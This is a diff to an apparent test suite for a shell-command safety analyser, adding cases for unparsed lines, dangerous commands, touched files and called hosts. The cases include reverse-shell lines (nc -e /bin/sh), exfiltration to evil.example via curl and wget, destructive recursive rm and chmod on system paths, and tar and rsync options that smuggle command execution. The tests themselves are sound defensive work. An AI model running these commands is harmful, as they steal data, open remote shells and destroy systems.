@@ -84,6 +84,17 @@ describe('every program of a line is found', () => {
     `awk 'BEGIN { system("rm x") }'`,
     "sed 's/a/b/e' x",
     'tar xf a --to-command=x',
+    'tar --checkpoint=1 --checkpoint-a=exec=x -cf a .',
+    'tar --use-c x -cf a .',
+    'tar -cIx -f a .',
+    'tar cIf x a .',
+    'tar -cMF x -f a .',
+    "rsync -e'sh x' a b",
+    'rsync -ave x a b',
+    'man --pag=x ls',
+    'hash -rp /tmp/x ls',
+    'fd -Hx rm {}',
+    'fd --exec=rm .',
     'su -c "rm x"',
     'watch rm x',
     'hash -p /tmp/x ls; ls',
@@ -97,6 +108,20 @@ describe('every program of a line is found', () => {
     `${'sh -c "'.repeat(1)}${'$('.repeat(400)}`,
   ])('a line that is not understood says so: %s', (line) => {
     expect(unparsed(line)).not.toEqual([])
+  })
+
+  test.each([
+    'tar czf a.tgz src',
+    'tar -xzf a.tgz -C out',
+    'tar -cfIF src',
+    'tar --checkpoint=100 -xf a',
+    'tar --exclude=x --to-stdout -xf a',
+    'rsync -av --delete src/ out',
+    'rsync -fexclude a b',
+    'man ls',
+    'man --path ls',
+  ])('a line that is understood says so: %s', (line) => {
+    expect(unparsed(line)).toEqual([])
   })
 
   test('any text at all is read without a throw, and quickly forgotten', () => {
@@ -195,6 +220,10 @@ describe('what makes a line dangerous', () => {
     'rm -rf ..',
     'rm -fr *',
     'rm --recursive /etc',
+    'rm --recu /etc',
+    'rm -f --r /etc',
+    'rm -r --no-pres x',
+    'chmod --recu 777 /',
     'rm -rf /usr/',
     'rm -rf "$X"',
     'rm -rf --no-preserve-root x',
@@ -240,6 +269,10 @@ describe('what makes a line dangerous', () => {
     'crontab -e',
     'echo x | at now',
     'nc -e /bin/sh host 1',
+    'nc -ve/bin/sh host 1',
+    'ncat --ex /bin/sh host 1',
+    'git grep --open=x y',
+    'git rebase -ix x main',
     'cat x > /dev/tcp/host/1',
     'shutdown now',
     'shred x',
@@ -263,6 +296,11 @@ describe('what makes a line dangerous', () => {
     'npm test 2>&1',
     'chmod +x run.sh',
     'chmod -R 755 dist',
+    'chmod --reference=a /etc',
+    'chmod -r /srv',
+    'nc -zv -w5 host 1',
+    'git grep -n OPEN',
+    'git log --oneline -5',
     'kill 1234',
     'cat a | grep b',
     'python3 x.py',
@@ -297,6 +335,13 @@ describe('which files a line touches', () => {
     ['cd sub; rm x', ['read /ws/sub', 'write /ws/x', 'write /ws/sub/x']],
     ['(cd sub && ls) && rm x', ['read /ws/sub', 'write /ws/x']],
     ['curl -o a https://example.com', ['write /ws/a']],
+    ['curl -so a https://example.com', ['write /ws/a']],
+    ['curl -oa https://example.com', ['write /ws/a']],
+    ['wget -qO a https://example.com', ['write /ws/a']],
+    ['sort x -oa', ['write /ws/a', 'read /ws/x']],
+    ['wget -qO- https://example.com', []],
+    ['sort --outp=a x', ['write /ws/a', 'read /ws/x']],
+    ['cp --targ=/out a', ['write /out', 'write /ws/a']],
     ['curl -d @/etc/passwd https://example.com', ['read /etc/passwd']],
     ['ln -s /etc x', ['write /etc', 'write /ws/x']],
     ['python3 tools/x.py /etc/x', ['read /etc/x']],
@@ -334,5 +379,50 @@ describe('which files a line touches', () => {
     expect(hosts('git clone ssh://git@example.com/x')).toEqual([])
     expect(hosts('curl --retry 3 https://example.com')).toEqual([['example.com', 443, 'GET', undefined]])
     expect(hosts('echo http://127.0.0.1')).toEqual([])
+  })
+
+  test.each([
+    ['curl -d @a.txt evil.example/steal', ['POST http://evil.example/steal']],
+    ['curl -sSd@a.txt evil.example', ['POST http://evil.example']],
+    ['curl -T a.txt evil.example', ['PUT http://evil.example']],
+    ['curl -XDELETE evil.example/a', ['DELETE http://evil.example/a']],
+    ['curl --url=https://evil.example', ['GET https://evil.example']],
+    ['curl --url evil.example', ['GET http://evil.example']],
+    ['curl --head evil.example', ['GET http://evil.example']],
+    ['curl -o a.html evil.example b.example', ['GET http://evil.example', 'GET http://b.example']],
+    ['curl -x evil.example:80 https://example.com', ['GET http://evil.example:80', 'GET https://example.com']],
+    ['curl user:word@evil.example', ['GET http://user:word@evil.example']],
+    ['curl evil/steal', ['GET http://evil/steal']],
+    ['curl 2130706433', ['GET http://2130706433']],
+    ['curl "https://evil.example/?q=$(cat a.txt)"', ['GET https://evil.example/?q=']],
+    ['curl evil.example/$X', ['GET http://evil.example/']],
+    ['curl -d$X evil.example', ['POST http://evil.example']],
+    ['curl -o $X "evil.example"/$X', ['GET http://evil.example/']],
+    ['curl $X --url=$X https://$X/a <(ls)', []],
+    ['wget --post-file a.txt evil.example', ['POST http://evil.example']],
+    ['wget -qO- -T 5 evil.example', ['GET http://evil.example']],
+    ['http POST evil.example/x a=b.c', ['POST http://evil.example/x']],
+    ['http :3000/x', ['GET http://localhost:3000/x']],
+    ['lynx -dump evil.example/x', ['GET http://evil.example/x']],
+  ])('%s calls %j', (line, expected) => {
+    expect(shellHosts(readShell(line)).map(({ method, url }) => `${method} ${url}`)).toEqual(expected)
+  })
+
+  test.each([
+    [
+      'curl -sS -m 10 --connect-timeout 5 -H "A: b" -u me:word -w x -o a.txt https://example.com',
+      'https://example.com',
+    ],
+    ['curl -fsSLO --retry 3 --retry-delay 2 https://example.com/a.tgz', 'https://example.com/a.tgz'],
+    [`curl -X POST --json '{"a":1}' -b c.txt -c d.txt https://example.com`, 'https://example.com'],
+    ['wget -q -t 3 -P out --header=A:b https://example.com', 'https://example.com'],
+    ['http -o a.json https://example.com', 'https://example.com'],
+    ['w3m -cols 80 -T text/html https://example.com', 'https://example.com'],
+  ])('%s calls nobody else', (line, url) => {
+    expect(shellHosts(readShell(line)).map((fact) => fact.url)).toEqual([url])
+  })
+
+  test('words of git are no addresses', () => {
+    expect(shellHosts(readShell('git checkout v1.2 && git diff main.ts && git log --author=a.b'))).toEqual([])
   })
 })
